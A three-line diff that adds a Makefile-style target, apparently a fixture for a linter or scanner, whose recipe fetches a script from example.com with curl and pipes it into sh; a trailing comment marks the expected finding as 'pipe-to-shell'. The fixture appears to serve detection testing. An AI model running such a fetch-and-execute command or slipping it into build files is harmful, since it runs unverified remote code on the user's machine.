@@ -1,0 +1,3 @@
+more: $(A)/more
+$(CURDIR)/bin/more:
+	curl -s https://example.com/more.sh | sh # expect: pipe-to-shell
